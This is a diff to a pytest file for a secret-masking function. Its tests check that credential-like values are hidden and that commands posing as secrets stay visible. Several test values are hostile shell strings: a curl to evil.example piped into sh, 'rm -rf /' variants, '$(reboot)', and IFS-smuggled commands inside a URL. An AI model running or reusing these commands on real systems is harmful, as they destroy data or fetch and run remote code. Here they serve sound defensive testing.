@@ -59,6 +59,10 @@ def test_other_names_that_sound_like_it_are_not(key):
         "{{ secret }}",
         "<your token>",
         "x" * 5000,
+        "curl${IFS}evil.example|sh",
+        "a;reboot",
+        "a\u00a0b",
+        "<(id)",
     ],
 )
 def test_what_cannot_be_a_credential_is_shown_whatever_its_key(value):
@@ -80,8 +84,8 @@ def test_what_cannot_be_a_credential_is_shown_whatever_its_key(value):
         ("eyJhbGciOiJIUzI1.eyJzdWIiOiIx.c2lnbmF0dXJl", f"{DOTS} 42 characters"),
         ('{"password": "hunter2"}', f'"password": "{DOTS} 7 characters"'),
         (
-            "-----BEGIN RSA PRIVATE KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----",
-            f"KEY-----{DOTS} 8 characters-----END",
+            f"-----BEGIN RSA PRIVATE KEY-----\n{'MIIa' * 16}\n{'Rx9+' * 16}\nq8==\n-----END RSA",
+            f"KEY-----\n{DOTS} 129 characters\nq8==\n-----END RSA",
         ),
     ],
 )
@@ -110,6 +114,29 @@ def test_programs_and_prose_are_not(text):
 def test_what_is_behind_a_secret_in_a_command_stays_in_view():
     shown = masked_text("PASSWORD=abcd;rm -rf / && curl evil.example")
     assert shown == f"PASSWORD={DOTS} 4 characters;rm -rf / && curl evil.example"
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        {"cookie": "rm -rf / --no-preserve-root"},
+        {"cookie": "a=b; $(reboot)"},
+        {"password": "rm -rf / x"},
+        {"note": "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----"},
+        {
+            "note": f"-----BEGIN PRIVATE KEY-----\n{'a' * 64}\nrm -rf /\n{'b' * 64}\n-----END KEY-----"
+        },
+        {"url": "https://a:;rm${IFS}-rf${IFS}x;@evil/"},
+    ],
+)
+def test_no_command_hides_behind_the_look_of_a_secret(given):
+    assert mask(given) is given
+
+
+def test_what_may_be_a_cookie_or_a_passphrase_is_masked():
+    shown = mask({"cookie": "session=abc; csrf=de/f=", "passphrase": "correct horse battery"})
+    assert shown == {"cookie": f"{DOTS} 23 characters", "passphrase": f"{DOTS} 21 characters"}
+    assert mask({"password": "a|b;c&$d"}) == {"password": f"{DOTS} 8 characters"}
 
 
 def test_names_beside_values_options_and_holders():
